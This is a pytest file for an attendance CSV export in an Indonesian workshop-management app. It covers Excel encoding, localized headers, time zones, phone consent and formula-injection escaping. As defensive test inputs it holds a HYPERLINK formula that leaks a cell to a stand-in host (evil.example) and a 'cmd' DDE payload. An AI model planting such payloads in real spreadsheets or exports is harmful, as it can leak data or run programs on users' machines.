"""The attendance CSV: Excel-friendly encoding and separator, zones, consent, formula injection."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from fgd_app.errors import UserError
from fgd_app.services import roster_export as rx
from fgd_app.services.participants import add_participant
from fgd_app.store.models import Participant
from tests.helpers import make_workshop


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


def check_in(db, pid: str, utc: dt.datetime) -> None:
    with db.transaction() as tx:
        tx.update(Participant, pid, checked_in_at=utc)


@pytest.fixture
def workshop(db):
    return make_workshop(db)  # Kutai Barat: WITA (UTC+8), 17 June 2021


def test_columns_encoding_separator_and_line_ends(db, workshop):
    pid = add_participant(db, workshop.id, name="Yohanés Lung, S.Kom.", position="Kepala Bidang",
                          nip="196804121994031007", institution="Diskominfo SP", gender="L",
                          phone="0812-5471-3306", consent_phone=True)
    add_participant(db, workshop.id, name="Agnes Ipah", gender="P", phone="0852-5071-6634")  # no consent
    check_in(db, pid, dt.datetime(2021, 6, 17, 0, 38))  # 08:38 WITA
    data = rx.attendance_csv(db, workshop.id)
    assert b"\r\n" in data and data.count(b"\r\n") == 3
    rows = read_back(data)
    assert rows[0] == ["No", "Nama", "Jabatan", "NIP", "Instansi", "L/P", "Hadir", "No HP"]
    assert rows[1] == ["1", "Agnes Ipah", "", "", "", "P", "", ""]  # not present; phone not kept
    assert rows[2] == ["2", "Yohanés Lung, S.Kom.", "Kepala Bidang", '="196804121994031007"', "Diskominfo SP",
                       "L", "08:38 WITA", "0812-5471-3306"]


def test_english_headers_follow_the_document_language(db):
    workshop = make_workshop(db, language="en")
    add_participant(db, workshop.id, name="Agnes", gender="P")
    rows = read_back(rx.attendance_csv(db, workshop.id))
    assert rows[0] == ["No", "Name", "Position", "NIP", "Agency", "Gender", "Present", "Phone"]
    assert rows[1][5] == "F"
    assert read_back(rx.attendance_csv(db, workshop.id, lang="id"))[0][1] == "Nama"


@pytest.mark.parametrize("regency, expected", [
    ("32.73", "07:38 WIB"),  # Kota Bandung
    ("64.07", "08:38 WITA"),  # Kutai Barat
    ("91.71", "09:38 WIT"),  # Kota Jayapura
])
def test_check_in_time_is_shown_in_the_workshop_zone(db, regency, expected):
    workshop = make_workshop(db, regency_code=regency)
    pid = add_participant(db, workshop.id, name="Agus")
    check_in(db, pid, dt.datetime(2021, 6, 17, 0, 38))
    assert read_back(rx.attendance_csv(db, workshop.id))[1][6] == expected


def test_check_in_on_another_day_shows_the_date(db, workshop):
    pid = add_participant(db, workshop.id, name="Agus")
    check_in(db, pid, dt.datetime(2021, 6, 18, 1, 5))  # day two of a two-day bimtek
    assert read_back(rx.attendance_csv(db, workshop.id))[1][6] == "18/06/2021 09:05 WITA"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_injection_is_escaped(db, workshop, start):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"klik")'
    with db.transaction() as tx:  # straight into the row: the text fields accept any text
        tx.insert(Participant, workshop_id=workshop.id, name="Agus", position=payload, institution=payload)
    row = read_back(rx.attendance_csv(db, workshop.id))[1]
    assert row[2] == "'" + payload and row[4] == "'" + payload


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_formula_injection_in_names_and_phone_numbers(db, workshop, start):
    add_participant(db, workshop.id, name=f"{start}cmd|' /C calc'!A0")
    add_participant(db, workshop.id, name="Budi", phone="+62 812 5471 3306", consent_phone=True)
    rows = read_back(rx.attendance_csv(db, workshop.id))
    names = {r[1] for r in rows[1:]}
    assert f"'{start}cmd|' /C calc'!A0" in names
    assert next(r for r in rows if r[1] == "Budi")[7] == "'+62 812 5471 3306"


@pytest.mark.parametrize("value, escaped", [
    ("196804121994031007", '="196804121994031007"'),
    ("081254713306", '="081254713306"'),
    ("12", "12"),
    ("Kepala Dinas", "Kepala Dinas"),
    ("=1+1", "'=1+1"),
    ("", ""),
])
def test_escape_cell(value, escaped):
    assert rx.escape_cell(value) == escaped


def test_export_writes_atomically_and_replaces_an_old_file(db, workshop, tmp_path):
    add_participant(db, workshop.id, name="Agus")
    out = tmp_path / "keluar"
    out.mkdir()
    target = out / "hadir.csv"
    target.write_text("old")
    assert rx.export_attendance(db, workshop.id, target) == target
    assert read_back(target.read_bytes())[1][1] == "Agus"
    assert [p.name for p in out.iterdir()] == ["hadir.csv"]  # no temporary file left
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(UserError) as info:
        rx.export_attendance(db, workshop.id, blocker / "hadir.csv")
    assert info.value.code == "export.write_failed"


def test_export_of_a_missing_workshop_is_refused(db):
    with pytest.raises(UserError) as info:
        rx.attendance_csv(db, "missing")
    assert info.value.code == "workshop.not_found"


def test_the_demo_exports_everyone_by_name(db):
    from fgd_app.services.demo import ensure_demo

    demo, _ = ensure_demo(db)
    rows = read_back(rx.attendance_csv(db, demo))
    assert len(rows) == 41 and [r[0] for r in rows[1:]] == [str(n) for n in range(1, 41)]
    assert sum(1 for r in rows[1:] if r[6].endswith("WITA")) == 37
    assert rx.default_file_name(db, demo) == "daftar-hadir-kabupaten-kutai-barat-2021-06-17.csv"
